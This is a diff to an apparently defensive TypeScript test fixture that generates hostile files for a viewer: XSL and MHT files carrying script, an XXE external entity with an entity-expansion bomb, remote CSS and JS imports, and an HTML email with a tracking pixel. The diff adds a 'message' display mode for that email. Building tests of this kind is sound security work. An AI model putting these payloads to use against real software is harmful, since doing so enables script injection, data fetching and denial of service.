@@ -3,7 +3,7 @@ import { pdfWith, streamOf } from "./pdf";
 import { zipOf } from "./zip";
 
 /** How a file is to be shown: as plain text, as a picture, as pages, or not at all. */
-export type Showing = "text" | "image" | "pages" | "none";
+export type Showing = "text" | "message" | "image" | "pages" | "none";
 
 export interface HostileFile {
   name: string;
@@ -26,7 +26,6 @@ const pages = (address: string): Record<string, string | Buffer> => ({
   "stylesheet.xml": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${address}/a.xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${call("stylesheet.xml")}</h:script></a>`,
   "entities.xml": `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${address}/e"><!ENTITY c "${"x".repeat(1000)}">]><a>&b;${"&c;".repeat(100)}</a>`,
   "archive.mht": `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"; type="text/html"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: ${address}/\r\n\r\n<script>${call("archive.mht")}</script>\r\n--b--\r\n`,
-  "letter.eml": `From: a@example.com\r\nContent-Type: text/html\r\n\r\n<img src="${address}/pixel.gif"><script>${call("letter.eml")}</script>`,
   "script.js": `${call("script.js")};import('${address}/m.js')`,
   "style.css": `@import url(${address}/a.css);body{background:url(${address}/b.png);behavior:url(x.htc)}`,
   "wide.html": Buffer.from(`\ufeff<html><script>${call("wide.html")}</script>`, "utf16le"),
@@ -156,6 +155,10 @@ const papers = (address: string): Record<string, string> => ({
   }),
 });
 
+const letters = (address: string): Record<string, string> => ({
+  "letter.eml": `From: a@example.com\r\nContent-Type: text/html\r\n\r\n<img src="${address}/pixel.gif"><script>${call("letter.eml")}</script>`,
+});
+
 /** Files that would run something, reach for an address, or lead away, if anything let them. */
 export function hostileFiles(address: string): HostileFile[] {
   const shown = (showing: Showing, contents: Record<string, string | Buffer>) =>
@@ -163,6 +166,7 @@ export function hostileFiles(address: string): HostileFile[] {
   return [
     ...shown("text", pages(address)),
     ...shown("text", texts(address)),
+    ...shown("message", letters(address)),
     ...shown("image", drawings(address)),
     ...shown("image", pictures),
     ...shown("none", impostors),
